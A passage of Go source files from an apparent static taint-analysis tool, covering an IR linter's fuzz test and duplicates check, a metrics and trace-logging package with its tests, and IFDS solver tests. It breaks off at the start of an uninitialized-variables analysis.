	f.Add("interface I {\n  method m(): void\n}\nclass C implements I {\n  method m(): void {\n    s = \"lit\"\n    t = s.concat(s)\n    return\n  }\n}")
	f.Add("class Loop {\n  method m(n: int): void {\n    i = 0\n  head:\n    if i goto out\n    i = i + 1\n    goto head\n  out:\n    return\n  }\n}")
	for _, d := range appgen.Defects() {
		if s := d.Snippet(); s != "" {
			f.Add(s)
		}
	}
	f.Fuzz(func(t *testing.T, src string) {
		prog, err := irtext.ParseProgram(src, "fuzz.ir")
		if err != nil {
			return // rejecting invalid text is correct behaviour
		}
		res := irlint.Run(prog, irlint.Config{})
		if hits := res.ByCode("irlint.panic"); len(hits) > 0 {
			t.Fatalf("analyzer panicked on valid program:\n%s\ndiagnostics: %v", src, hits)
		}
	})
}
