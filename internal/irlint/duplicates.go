package irlint

import "flowdroid/internal/ir"

func init() { Register(duplicatesAnalyzer) }

// duplicatesAnalyzer checks the identity invariants of locals and method
// signatures. Locals are pointer-identified throughout the analyses
// (access paths intern on *Local), so two distinct locals sharing a name
// in one method, or a body statement referencing a local that is not in
// the method's table, corrupts every map keyed on them. AddParam and
// AddMethod refuse duplicates at construction time; this analyzer
// catches IR assembled around those APIs.
var duplicatesAnalyzer = &Analyzer{
	Name: "duplicates",
	Doc:  "duplicate or foreign locals and mis-registered method signatures",
	Run:  runDuplicates,
}

func runDuplicates(pass *Pass) {
	for _, c := range pass.Prog.Classes() {
		for _, m := range c.Methods() {
			if m.Class != c {
				bound := "<none>"
				if m.Class != nil {
					bound = m.Class.Name
				}
				pass.ReportMethod("duplicates.signature", Error, m,
					"method %s.%s/%d is registered on class %s but bound to %s",
					c.Name, m.Name, len(m.Params), c.Name, bound)
			}
			seen := make(map[string]bool, len(m.Params))
			for _, p := range m.Params {
				if seen[p.Name] {
					pass.ReportMethod("duplicates.param", Error, m,
						"duplicate parameter name %q", p.Name)
					continue
				}
				seen[p.Name] = true
				if m.LookupLocal(p.Name) != p {
					pass.ReportMethod("duplicates.local", Error, m,
						"parameter %q is not the method's registered local of that name", p.Name)
				}
			}
			reported := make(map[string]bool)
			for _, s := range m.Body() {
				stmtLocals(s, func(l *ir.Local) {
					if m.LookupLocal(l.Name) == l || reported[l.Name] {
						return
					}
					reported[l.Name] = true
					pass.ReportStmt("duplicates.local", Error, s,
						"statement references local %q that is not registered in %s (duplicate or foreign local)",
						l.Name, m)
				})
			}
		}
	}
}
