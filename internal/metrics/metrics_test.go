package metrics

import (
	"context"
	"encoding/json"
	"sync"
	"testing"
	"time"
)

// TestNilRecorderIsFullyNoOp: every method chain off a nil *Recorder
// must be legal and side-effect free — this is the disabled fast path
// the instrumented code relies on.
func TestNilRecorderIsFullyNoOp(t *testing.T) {
	var r *Recorder
	r.Counter("a", Deterministic).Add(3)
	r.Gauge("b", Schedule).Add(2)
	r.Gauge("b", Schedule).Set(7)
	r.Histogram("c").Observe(time.Millisecond)
	r.StartSpan("d").End()
	r.SetTrace(nil)
	s := r.Snapshot()
	if len(s.Deterministic)+len(s.Schedule)+len(s.Timings)+len(s.Histograms) != 0 {
		t.Errorf("nil recorder snapshot not empty: %+v", s)
	}
	if got := r.Counter("a", Deterministic).Load(); got != 0 {
		t.Errorf("nil counter Load = %d, want 0", got)
	}
	if g := r.Gauge("b", Schedule); g.Load() != 0 || g.Peak() != 0 {
		t.Error("nil gauge not zero")
	}
}

// TestCounterConcurrentExactness: the counter must be exact under
// concurrent increments — N goroutines adding M each must total N*M.
func TestCounterConcurrentExactness(t *testing.T) {
	r := New()
	c := r.Counter("taint.propagations", Deterministic)
	const goroutines, per = 8, 10000
	var wg sync.WaitGroup
	for i := 0; i < goroutines; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < per; j++ {
				c.Add(1)
			}
		}()
	}
	wg.Wait()
	if got := c.Load(); got != goroutines*per {
		t.Errorf("counter = %d, want %d", got, goroutines*per)
	}
}

// TestCounterInterning: the same name must return the same counter, and
// a fresh name a fresh one.
func TestCounterInterning(t *testing.T) {
	r := New()
	a := r.Counter("x", Deterministic)
	b := r.Counter("x", Deterministic)
	if a != b {
		t.Error("same name returned distinct counters")
	}
	a.Add(5)
	if got := r.Counter("x", Deterministic).Load(); got != 5 {
		t.Errorf("interned counter lost its value: %d", got)
	}
	if r.Counter("y", Deterministic) == a {
		t.Error("distinct names share a counter")
	}
}

// TestGaugePeak: the peak must track the high-water mark across Add and
// Set, including under concurrency (peak >= any individually observed
// level).
func TestGaugePeak(t *testing.T) {
	r := New()
	g := r.Gauge("queue", Schedule)
	g.Add(5)
	g.Add(3)
	g.Add(-6)
	if g.Load() != 2 || g.Peak() != 8 {
		t.Errorf("gauge = %d peak %d, want 2 peak 8", g.Load(), g.Peak())
	}
	g.Set(4)
	if g.Peak() != 8 {
		t.Errorf("Set lowered the peak to %d", g.Peak())
	}
	g.Set(11)
	if g.Peak() != 11 {
		t.Errorf("peak = %d after Set(11)", g.Peak())
	}
}

// TestHistogramBuckets: observations land in the right power-of-two
// buckets and the aggregates are exact.
func TestHistogramBuckets(t *testing.T) {
	r := New()
	h := r.Histogram("alias")
	h.Observe(0)
	h.Observe(time.Microsecond)     // 1us -> bucket ge_0us..? 1 -> b=0
	h.Observe(3 * time.Microsecond) // 3us -> [2,4)
	h.Observe(100 * time.Microsecond)
	s := r.Snapshot().Histograms["alias"]
	if s.Count != 4 {
		t.Errorf("count = %d, want 4", s.Count)
	}
	if s.SumUS != 0+1+3+100 {
		t.Errorf("sum = %d, want 104", s.SumUS)
	}
	if s.Buckets["ge_0us"] != 2 {
		t.Errorf("ge_0us bucket = %d, want 2 (0us and 1us)", s.Buckets["ge_0us"])
	}
	if s.Buckets["ge_2us"] != 1 {
		t.Errorf("ge_2us bucket = %d, want 1", s.Buckets["ge_2us"])
	}
	if s.Buckets["ge_64us"] != 1 {
		t.Errorf("ge_64us bucket = %d, want 1 (100us lands in [64,128))", s.Buckets["ge_64us"])
	}
}

// TestSnapshotSectionSegregation: deterministic counters and
// schedule-dependent values must land in separate snapshot sections,
// and timing data must never appear among the deterministic keys.
func TestSnapshotSectionSegregation(t *testing.T) {
	r := New()
	r.Counter("taint.forward_edges", Deterministic).Add(10)
	r.Counter("taint.workers", Schedule).Add(8)
	r.Gauge("taint.queue", Schedule).Set(5)
	sp := r.StartSpan("taint")
	sp.End()

	s := r.Snapshot()
	if s.Deterministic["taint.forward_edges"] != 10 {
		t.Error("deterministic counter missing from Deterministic section")
	}
	if _, ok := s.Deterministic["taint.workers"]; ok {
		t.Error("schedule counter leaked into Deterministic section")
	}
	if s.Schedule["taint.workers"] != 8 {
		t.Error("schedule counter missing from Schedule section")
	}
	if s.Schedule["taint.queue.peak"] != 5 {
		t.Errorf("gauge peak = %d, want 5", s.Schedule["taint.queue.peak"])
	}
	if _, ok := s.Timings["taint"]; !ok {
		t.Error("span timing missing from Timings section")
	}
	for k := range s.Deterministic {
		if k == "taint" {
			t.Error("timing name leaked into Deterministic section")
		}
	}
}

// TestSnapshotJSONDeterminism: two recorders fed the same deterministic
// counters in different orders must marshal byte-identical
// Deterministic sections — the property the cross-worker equivalence
// suite depends on.
func TestSnapshotJSONDeterminism(t *testing.T) {
	a, b := New(), New()
	a.Counter("x", Deterministic).Add(1)
	a.Counter("y", Deterministic).Add(2)
	b.Counter("y", Deterministic).Add(2)
	b.Counter("x", Deterministic).Add(1)
	ja, err := json.Marshal(a.Snapshot().Deterministic)
	if err != nil {
		t.Fatal(err)
	}
	jb, err := json.Marshal(b.Snapshot().Deterministic)
	if err != nil {
		t.Fatal(err)
	}
	if string(ja) != string(jb) {
		t.Errorf("registration order changed the marshaled section:\n%s\nvs\n%s", ja, jb)
	}
}

// TestContextRoundTrip: Into/From must round-trip the recorder, a bare
// context yields nil, and Into(ctx, nil) is the identity.
func TestContextRoundTrip(t *testing.T) {
	ctx := context.Background()
	if From(ctx) != nil {
		t.Error("empty context yielded a recorder")
	}
	r := New()
	if got := From(Into(ctx, r)); got != r {
		t.Error("recorder did not round-trip through the context")
	}
	if Into(ctx, nil) != ctx {
		t.Error("Into(ctx, nil) must be the identity")
	}
	// The composed disabled path must be legal end to end.
	From(ctx).Counter("c", Deterministic).Add(1)
	From(ctx).StartSpan("s").End()
}
