// Package metrics is the observability layer of the analysis pipeline: a
// lightweight, allocation-conscious set of monotonic timers, atomic
// counters, gauges and latency histograms, plus a JSONL trace-event sink
// with explicit start/end spans (trace.go).
//
// Design rules, in order of importance:
//
//  1. Zero cost when disabled. Every instrument is reached through a
//     pointer that is nil when no Recorder is installed; every method is
//     nil-safe, so instrumented code never branches on a separate
//     "enabled" flag and the disabled fast path is a single predictable
//     nil check with no allocation. A nil *Recorder hands out nil
//     instruments, which no-op.
//
//  2. Deterministic reporting is segregated from wall-clock reporting.
//     Instruments are registered under a Class; Snapshot splits them into
//     a Deterministic section (schedule-independent on completed runs —
//     byte-identical across worker counts), a Schedule section (depends
//     on worker scheduling or configuration: peaks, per-worker work
//     splits, pool sizes) and a Timings section (wall clock). Trace
//     events always carry wall times; the snapshot is the canonical
//     surface.
//
//  3. Hot paths hold instrument pointers, not names. Counter/Gauge/
//     Histogram lookups intern by name under a lock; solvers resolve
//     their instruments once at construction and then touch only
//     atomics.
package metrics

import (
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// Class says which snapshot section an instrument reports under.
type Class int

const (
	// Deterministic marks counters whose final value is a pure function
	// of the analyzed program and configuration on completed runs —
	// independent of worker count and scheduling. Truncated runs stop at
	// a schedule-dependent frontier, so the guarantee is scoped to
	// completed runs, exactly like the solver's leak-set determinism.
	Deterministic Class = iota
	// Schedule marks values that legitimately vary with scheduling or
	// pool configuration: queue-depth peaks, per-worker items drained,
	// the worker count itself.
	Schedule
)

// Counter is a monotonically increasing atomic counter. The zero value
// is ready to use; a nil Counter no-ops.
type Counter struct {
	v atomic.Int64
}

// Add increments the counter by n.
func (c *Counter) Add(n int64) {
	if c == nil {
		return
	}
	c.v.Add(n)
}

// Load returns the current value (0 on nil).
func (c *Counter) Load() int64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is an atomic level with peak tracking. A nil Gauge no-ops.
type Gauge struct {
	v    atomic.Int64
	peak atomic.Int64
}

// Add moves the gauge by delta and updates the peak.
func (g *Gauge) Add(delta int64) {
	if g == nil {
		return
	}
	v := g.v.Add(delta)
	for {
		p := g.peak.Load()
		if v <= p || g.peak.CompareAndSwap(p, v) {
			return
		}
	}
}

// Set replaces the gauge value and updates the peak.
func (g *Gauge) Set(v int64) {
	if g == nil {
		return
	}
	g.v.Store(v)
	for {
		p := g.peak.Load()
		if v <= p || g.peak.CompareAndSwap(p, v) {
			return
		}
	}
}

// Load returns the current level (0 on nil).
func (g *Gauge) Load() int64 {
	if g == nil {
		return 0
	}
	return g.v.Load()
}

// Peak returns the highest level observed (0 on nil).
func (g *Gauge) Peak() int64 {
	if g == nil {
		return 0
	}
	return g.peak.Load()
}

// histBuckets is the number of power-of-two latency buckets: bucket i
// counts observations in [2^i, 2^(i+1)) microseconds, the last bucket is
// unbounded. 2^20 us ≈ 1s, plenty for per-item solver latencies.
const histBuckets = 21

// Histogram is a fixed-bucket power-of-two latency histogram. A nil
// Histogram no-ops, so the per-observation cost when metrics are
// disabled is one nil check.
type Histogram struct {
	buckets [histBuckets]atomic.Int64
	count   atomic.Int64
	sumUS   atomic.Int64
}

// Observe records one duration.
func (h *Histogram) Observe(d time.Duration) {
	if h == nil {
		return
	}
	us := d.Microseconds()
	if us < 0 {
		us = 0
	}
	b := 0
	for v := us; v > 1 && b < histBuckets-1; v >>= 1 {
		b++
	}
	h.buckets[b].Add(1)
	h.count.Add(1)
	h.sumUS.Add(us)
}

// HistogramSnapshot is the exported view of a histogram.
type HistogramSnapshot struct {
	Count int64 `json:"count"`
	SumUS int64 `json:"sum_us"`
	// Buckets maps the lower bound (in microseconds, power of two) of
	// each non-empty bucket to its count.
	Buckets map[string]int64 `json:"buckets,omitempty"`
}

// Recorder is the per-run instrument registry plus the optional trace
// sink. All methods are safe on a nil receiver (they no-op or return nil
// instruments) and safe for concurrent use.
type Recorder struct {
	epoch time.Time

	mu       sync.Mutex
	counters map[string]*classedCounter
	gauges   map[string]*classedGauge
	hists    map[string]*Histogram
	timings  map[string]*timing

	trace *Trace
	seq   atomic.Int64
}

type classedCounter struct {
	c     Counter
	class Class
}

type classedGauge struct {
	g     Gauge
	class Class
}

type timing struct {
	total time.Duration
	count int64
}

// New creates an empty Recorder with its monotonic epoch at the call
// time.
func New() *Recorder {
	return &Recorder{
		epoch:    time.Now(),
		counters: make(map[string]*classedCounter),
		gauges:   make(map[string]*classedGauge),
		hists:    make(map[string]*Histogram),
		timings:  make(map[string]*timing),
	}
}

// now is the monotonic microsecond clock of the recorder.
func (r *Recorder) now() int64 {
	return time.Since(r.epoch).Microseconds()
}

// Counter interns the named counter under the given class. Returns nil
// on a nil Recorder; the first registration fixes the class.
func (r *Recorder) Counter(name string, class Class) *Counter {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	e := r.counters[name]
	if e == nil {
		e = &classedCounter{class: class}
		r.counters[name] = e
	}
	return &e.c
}

// Gauge interns the named gauge under the given class. Returns nil on a
// nil Recorder.
func (r *Recorder) Gauge(name string, class Class) *Gauge {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	e := r.gauges[name]
	if e == nil {
		e = &classedGauge{class: class}
		r.gauges[name] = e
	}
	return &e.g
}

// Histogram interns the named latency histogram. Returns nil on a nil
// Recorder. Histograms report under the timing side of the snapshot —
// latencies are wall clock by nature.
func (r *Recorder) Histogram(name string) *Histogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h := r.hists[name]
	if h == nil {
		h = &Histogram{}
		r.hists[name] = h
	}
	return h
}

// recordTiming accumulates a finished span's duration under its name.
func (r *Recorder) recordTiming(name string, d time.Duration) {
	r.mu.Lock()
	defer r.mu.Unlock()
	t := r.timings[name]
	if t == nil {
		t = &timing{}
		r.timings[name] = t
	}
	t.total += d
	t.count++
}

// TimingSnapshot is the exported view of one span name's accumulated
// wall time.
type TimingSnapshot struct {
	TotalUS int64 `json:"total_us"`
	Count   int64 `json:"count"`
}

// Snapshot is the exported state of a Recorder. Deterministic holds the
// schedule-independent counters (byte-identical across worker counts on
// completed runs once JSON-marshaled — Go sorts map keys); Schedule and
// Timings hold everything scheduling- or wall-clock-dependent.
type Snapshot struct {
	Deterministic map[string]int64             `json:"deterministic"`
	Schedule      map[string]int64             `json:"schedule"`
	Timings       map[string]TimingSnapshot    `json:"timings"`
	Histograms    map[string]HistogramSnapshot `json:"histograms"`
}

// Snapshot exports the current state. Safe on nil (returns an empty
// snapshot). Gauges export their final level under their name and their
// high-water mark under "<name>.peak", both in the gauge's class
// section.
func (r *Recorder) Snapshot() Snapshot {
	s := Snapshot{
		Deterministic: map[string]int64{},
		Schedule:      map[string]int64{},
		Timings:       map[string]TimingSnapshot{},
		Histograms:    map[string]HistogramSnapshot{},
	}
	if r == nil {
		return s
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	section := func(c Class) map[string]int64 {
		if c == Deterministic {
			return s.Deterministic
		}
		return s.Schedule
	}
	for name, e := range r.counters {
		section(e.class)[name] = e.c.Load()
	}
	for name, e := range r.gauges {
		sec := section(e.class)
		sec[name] = e.g.Load()
		sec[name+".peak"] = e.g.Peak()
	}
	for name, t := range r.timings {
		s.Timings[name] = TimingSnapshot{TotalUS: t.total.Microseconds(), Count: t.count}
	}
	for name, h := range r.hists {
		hs := HistogramSnapshot{Count: h.count.Load(), SumUS: h.sumUS.Load()}
		for i := range h.buckets {
			if n := h.buckets[i].Load(); n > 0 {
				if hs.Buckets == nil {
					hs.Buckets = map[string]int64{}
				}
				hs.Buckets[bucketLabel(i)] = n
			}
		}
		s.Histograms[name] = hs
	}
	return s
}

// bucketLabel renders bucket i's lower bound in microseconds.
func bucketLabel(i int) string {
	lo := int64(1) << uint(i)
	if i == 0 {
		lo = 0
	}
	return "ge_" + itoa(lo) + "us"
}

func itoa(n int64) string {
	if n == 0 {
		return "0"
	}
	var b [20]byte
	i := len(b)
	for n > 0 {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
	}
	return string(b[i:])
}

// DeterministicKeys returns the sorted names of the deterministic
// counters, mostly for tests and schema checks.
func (s Snapshot) DeterministicKeys() []string {
	keys := make([]string, 0, len(s.Deterministic))
	for k := range s.Deterministic {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
