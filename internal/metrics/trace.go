package metrics

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"time"
)

// Event is one JSONL trace record. Ev is "B" (span begin) or "E" (span
// end); TUS is microseconds since the recorder's epoch (monotonic);
// DurUS is set on "E" events only. Seq is a global strictly increasing
// sequence number — within one trace file, events sort by Seq, and
// begin/end pairs for the same span name balance like brackets.
type Event struct {
	Seq   int64  `json:"seq"`
	Ev    string `json:"ev"`
	Name  string `json:"name"`
	TUS   int64  `json:"t_us"`
	DurUS int64  `json:"dur_us,omitempty"`
}

// Trace is a synchronous JSONL sink for span events. Writes are
// serialized under a mutex; each event is one JSON object per line,
// flushed eagerly so a trace from a crashed run is still readable up to
// the crash.
type Trace struct {
	mu sync.Mutex
	w  *bufio.Writer
	c  io.Closer
}

// NewTrace wraps w as a trace sink. If w is also an io.Closer, Close
// closes it.
func NewTrace(w io.Writer) *Trace {
	t := &Trace{w: bufio.NewWriter(w)}
	if c, ok := w.(io.Closer); ok {
		t.c = c
	}
	return t
}

// emit writes one event line. Errors are swallowed: tracing is best
// effort and must never fail the analysis.
func (t *Trace) emit(e Event) {
	if t == nil {
		return
	}
	b, err := json.Marshal(e)
	if err != nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	t.w.Write(b)
	t.w.WriteByte('\n')
	t.w.Flush()
}

// Close flushes and closes the underlying writer if it is closable.
func (t *Trace) Close() error {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	err := t.w.Flush()
	if t.c != nil {
		if cerr := t.c.Close(); err == nil {
			err = cerr
		}
	}
	return err
}

// SetTrace attaches a trace sink to the recorder. Pass nil to detach.
// Not safe to call concurrently with spans; attach before the run.
func (r *Recorder) SetTrace(t *Trace) {
	if r == nil {
		return
	}
	r.trace = t
}

// Span is one timed region. End records its duration under the span
// name and emits the "E" trace event. A nil Span (from a nil Recorder)
// no-ops, so call sites need no enabled check:
//
//	defer metrics.From(ctx).StartSpan("pipeline.callgraph").End()
type Span struct {
	r     *Recorder
	name  string
	start time.Time
	tus   int64
}

// StartSpan opens a named span: emits the "B" trace event (if a sink is
// attached) and returns the span. Returns nil on a nil Recorder.
func (r *Recorder) StartSpan(name string) *Span {
	if r == nil {
		return nil
	}
	s := &Span{r: r, name: name, start: time.Now(), tus: r.now()}
	if r.trace != nil {
		r.trace.emit(Event{Seq: r.seq.Add(1), Ev: "B", Name: name, TUS: s.tus})
	}
	return s
}

// End closes the span. Safe on nil and safe to call at most once.
func (s *Span) End() {
	if s == nil {
		return
	}
	d := time.Since(s.start)
	s.r.recordTiming(s.name, d)
	if s.r.trace != nil {
		s.r.trace.emit(Event{Seq: s.r.seq.Add(1), Ev: "E", Name: s.name, TUS: s.r.now(), DurUS: d.Microseconds()})
	}
}

// ValidateTraceEvent checks one decoded trace event for schema sanity.
// Used by the checktrace tool and tests.
func ValidateTraceEvent(e Event) error {
	if e.Seq <= 0 {
		return fmt.Errorf("seq %d not positive", e.Seq)
	}
	if e.Ev != "B" && e.Ev != "E" {
		return fmt.Errorf("ev %q not B or E", e.Ev)
	}
	if e.Name == "" {
		return fmt.Errorf("empty span name")
	}
	if e.TUS < 0 {
		return fmt.Errorf("negative timestamp %d", e.TUS)
	}
	if e.Ev == "B" && e.DurUS != 0 {
		return fmt.Errorf("begin event carries dur_us %d", e.DurUS)
	}
	return nil
}
