package metrics

import "context"

// ctxKey is the private context key for the recorder.
type ctxKey struct{}

// Into returns a context carrying the recorder. Passing a nil recorder
// returns ctx unchanged, so callers can thread an optional recorder
// without branching.
func Into(ctx context.Context, r *Recorder) context.Context {
	if r == nil {
		return ctx
	}
	return context.WithValue(ctx, ctxKey{}, r)
}

// From extracts the recorder from the context, or nil when none is
// installed. The nil return composes with the nil-safe Recorder
// methods: metrics.From(ctx).Counter(...) is always legal and yields a
// nil (no-op) instrument on the disabled path.
func From(ctx context.Context) *Recorder {
	r, _ := ctx.Value(ctxKey{}).(*Recorder)
	return r
}
