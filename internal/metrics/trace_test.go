package metrics

import (
	"bufio"
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

// decodeTrace parses a JSONL buffer into events, validating each line.
func decodeTrace(t *testing.T, buf *bytes.Buffer) []Event {
	t.Helper()
	var evs []Event
	sc := bufio.NewScanner(bytes.NewReader(buf.Bytes()))
	for sc.Scan() {
		var e Event
		if err := json.Unmarshal(sc.Bytes(), &e); err != nil {
			t.Fatalf("bad JSONL line %q: %v", sc.Text(), err)
		}
		if err := ValidateTraceEvent(e); err != nil {
			t.Fatalf("invalid event %+v: %v", e, err)
		}
		evs = append(evs, e)
	}
	return evs
}

// TestTraceSpanNesting: nested spans must emit balanced B/E pairs in
// stack order with strictly increasing seq and nondecreasing
// timestamps.
func TestTraceSpanNesting(t *testing.T) {
	var buf bytes.Buffer
	r := New()
	r.SetTrace(NewTrace(&buf))

	outer := r.StartSpan("pipeline")
	inner := r.StartSpan("pipeline.callgraph")
	inner.End()
	inner2 := r.StartSpan("pipeline.taint")
	inner2.End()
	outer.End()

	evs := decodeTrace(t, &buf)
	want := []struct{ ev, name string }{
		{"B", "pipeline"},
		{"B", "pipeline.callgraph"},
		{"E", "pipeline.callgraph"},
		{"B", "pipeline.taint"},
		{"E", "pipeline.taint"},
		{"E", "pipeline"},
	}
	if len(evs) != len(want) {
		t.Fatalf("got %d events, want %d", len(evs), len(want))
	}
	for i, w := range want {
		if evs[i].Ev != w.ev || evs[i].Name != w.name {
			t.Errorf("event %d = %s %q, want %s %q", i, evs[i].Ev, evs[i].Name, w.ev, w.name)
		}
		if i > 0 {
			if evs[i].Seq <= evs[i-1].Seq {
				t.Errorf("seq not strictly increasing at event %d", i)
			}
			if evs[i].TUS < evs[i-1].TUS {
				t.Errorf("timestamps regress at event %d", i)
			}
		}
	}
	// The outer span's duration must cover the inner spans'.
	var outerDur, innerDur int64
	for _, e := range evs {
		if e.Ev != "E" {
			continue
		}
		if e.Name == "pipeline" {
			outerDur = e.DurUS
		} else {
			innerDur += e.DurUS
		}
	}
	if outerDur < innerDur {
		t.Errorf("outer span %dus shorter than the sum of inner spans %dus", outerDur, innerDur)
	}
	// And the same durations must be visible in the snapshot timings.
	s := r.Snapshot()
	if s.Timings["pipeline"].Count != 1 || s.Timings["pipeline.callgraph"].Count != 1 {
		t.Errorf("span timings missing from snapshot: %+v", s.Timings)
	}
}

// TestTraceRepeatedSpansAccumulate: a span name used N times must
// produce N balanced pairs in the trace and Count == N in the snapshot.
func TestTraceRepeatedSpansAccumulate(t *testing.T) {
	var buf bytes.Buffer
	r := New()
	r.SetTrace(NewTrace(&buf))
	for i := 0; i < 3; i++ {
		r.StartSpan("pass").End()
	}
	evs := decodeTrace(t, &buf)
	b, e := 0, 0
	for _, ev := range evs {
		switch ev.Ev {
		case "B":
			b++
		case "E":
			e++
		}
	}
	if b != 3 || e != 3 {
		t.Errorf("got %d B / %d E events, want 3/3", b, e)
	}
	if c := r.Snapshot().Timings["pass"].Count; c != 3 {
		t.Errorf("snapshot count = %d, want 3", c)
	}
}

// TestSpansWithoutTrace: spans must work (and feed timings) with no
// trace sink attached.
func TestSpansWithoutTrace(t *testing.T) {
	r := New()
	r.StartSpan("solo").End()
	if c := r.Snapshot().Timings["solo"].Count; c != 1 {
		t.Errorf("timing count = %d, want 1", c)
	}
}

// TestTraceConcurrentWriters: concurrent spans must yield valid,
// line-atomic JSONL — every line parses and every seq appears exactly
// once.
func TestTraceConcurrentWriters(t *testing.T) {
	var buf bytes.Buffer
	r := New()
	r.SetTrace(NewTrace(&buf))
	done := make(chan struct{})
	for g := 0; g < 4; g++ {
		go func() {
			defer func() { done <- struct{}{} }()
			for i := 0; i < 50; i++ {
				r.StartSpan("w").End()
			}
		}()
	}
	for g := 0; g < 4; g++ {
		<-done
	}
	evs := decodeTrace(t, &buf)
	if len(evs) != 400 {
		t.Fatalf("got %d events, want 400", len(evs))
	}
	seen := make(map[int64]bool, len(evs))
	for _, e := range evs {
		if seen[e.Seq] {
			t.Fatalf("seq %d appears twice", e.Seq)
		}
		seen[e.Seq] = true
	}
}

// TestValidateTraceEvent: the validator must reject the malformed
// shapes checktrace guards against.
func TestValidateTraceEvent(t *testing.T) {
	bad := []Event{
		{Seq: 0, Ev: "B", Name: "x", TUS: 1},
		{Seq: 1, Ev: "X", Name: "x", TUS: 1},
		{Seq: 1, Ev: "B", Name: "", TUS: 1},
		{Seq: 1, Ev: "B", Name: "x", TUS: -1},
		{Seq: 1, Ev: "B", Name: "x", TUS: 1, DurUS: 5},
	}
	for i, e := range bad {
		if ValidateTraceEvent(e) == nil {
			t.Errorf("case %d: %+v accepted, want error", i, e)
		}
	}
	if err := ValidateTraceEvent(Event{Seq: 1, Ev: "E", Name: "x", TUS: 1, DurUS: 3}); err != nil {
		t.Errorf("valid end event rejected: %v", err)
	}
}

// TestTraceCloseFlushes: Close must flush buffered events so short
// traces are not lost.
func TestTraceCloseFlushes(t *testing.T) {
	var buf bytes.Buffer
	tr := NewTrace(&buf)
	tr.emit(Event{Seq: 1, Ev: "B", Name: "x", TUS: 1})
	if err := tr.Close(); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"name":"x"`) {
		t.Errorf("event not flushed: %q", buf.String())
	}
}
