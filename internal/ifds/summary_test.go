package ifds

import (
	"context"
	"testing"

	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/pta"
)

// replayHooks is a minimal in-memory SummaryHooks implementation: in
// record mode it captures every end summary the solver computes; in
// serve mode it answers lookups from the recorded map. Running the same
// problem twice over one program exercises the install path end to end.
type replayHooks struct {
	record  bool
	store   map[methodCtx[*ir.Local]][]exitPair[*ir.Local]
	lookups int
	serves  int
}

func (h *replayHooks) Lookup(callee *ir.Method, d3 *ir.Local) ([]ir.Stmt, []*ir.Local, bool) {
	if h.record {
		return nil, nil, false
	}
	h.lookups++
	eps, ok := h.store[methodCtx[*ir.Local]{callee, d3}]
	if !ok {
		return nil, nil, false
	}
	h.serves++
	exits := make([]ir.Stmt, len(eps))
	facts := make([]*ir.Local, len(eps))
	for i, ep := range eps {
		exits[i] = ep.exit
		facts[i] = ep.d2
	}
	return exits, facts, true
}

func (h *replayHooks) Installed(m *ir.Method, d1 *ir.Local, exit ir.Stmt, d2 *ir.Local) {
	if !h.record {
		return
	}
	key := methodCtx[*ir.Local]{m, d1}
	h.store[key] = append(h.store[key], exitPair[*ir.Local]{exit, d2})
}

// TestSummaryHooksReplay solves the local-taint program twice over the
// same parsed program: the first solver records end summaries, the
// second replays them. Both must agree on every sink's leak verdict and
// on the facts at the first sink, and the replayed run must do strictly
// less propagation work.
func TestSummaryHooksReplay(t *testing.T) {
	prog, err := irtext.ParseProgram(taintSrc, "t.ir")
	if err != nil {
		t.Fatal(err)
	}
	main := prog.Class("T").Method("main", 0)
	res := pta.Build(context.Background(), prog, main)
	icfg := cfg.NewICFG(prog, res.Graph)

	hooks := &replayHooks{record: true, store: make(map[methodCtx[*ir.Local]][]exitPair[*ir.Local])}

	solve := func() (*localTaint, *Solver[*ir.Local]) {
		problem := &localTaint{entry: main.EntryStmt(), leaks: make(map[ir.Stmt]bool)}
		s := NewSolver[*ir.Local](icfg, problem)
		s.Summaries = hooks
		s.Solve()
		return problem, s
	}

	p1, s1 := solve()
	if len(hooks.store) == 0 {
		t.Fatal("record run installed no end summaries")
	}

	hooks.record = false
	p2, s2 := solve()
	if hooks.lookups == 0 {
		t.Fatal("replay run performed no lookups")
	}
	if hooks.serves == 0 {
		t.Fatal("replay run served no summaries")
	}

	var sinks []ir.Stmt
	for _, st := range main.Body() {
		if c := ir.CallOf(st); c != nil && c.Ref.Name == "sink" {
			sinks = append(sinks, st)
		}
	}
	if len(sinks) != 5 {
		t.Fatalf("expected 5 sink calls, found %d", len(sinks))
	}
	for i, sink := range sinks {
		if p1.leaks[sink] != p2.leaks[sink] {
			t.Errorf("sink %d: record run leak=%v, replay run leak=%v",
				i, p1.leaks[sink], p2.leaks[sink])
		}
	}
	// Same dataflow facts at the first sink under both regimes.
	for _, name := range []string{"a", "b"} {
		l := main.LookupLocal(name)
		if got, want := s2.HasFactAt(sinks[0], l), s1.HasFactAt(sinks[0], l); got != want {
			t.Errorf("HasFactAt(sink0, %s): replay %v, record %v", name, got, want)
		}
	}
	if s2.PropagateCount >= s1.PropagateCount {
		t.Errorf("replay did not save work: %d propagations vs %d",
			s2.PropagateCount, s1.PropagateCount)
	}
}
