package ifds

import (
	"context"
	"testing"

	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/pta"
)

// uninit is the possibly-uninitialized-variables problem — the running
// example of the original IFDS paper (Reps, Horwitz, Sagiv, POPL '95) —
// formulated over the IR: a fact is a local that may be read before being
// assigned on some path. It exercises the solver in the opposite gen/kill
// direction from taint (facts are killed by definitions and generated at
// entry), which makes it a good independent check of the framework.
type uninit struct {
	entry ir.Stmt
}

func (p *uninit) Zero() *ir.Local  { return nil }
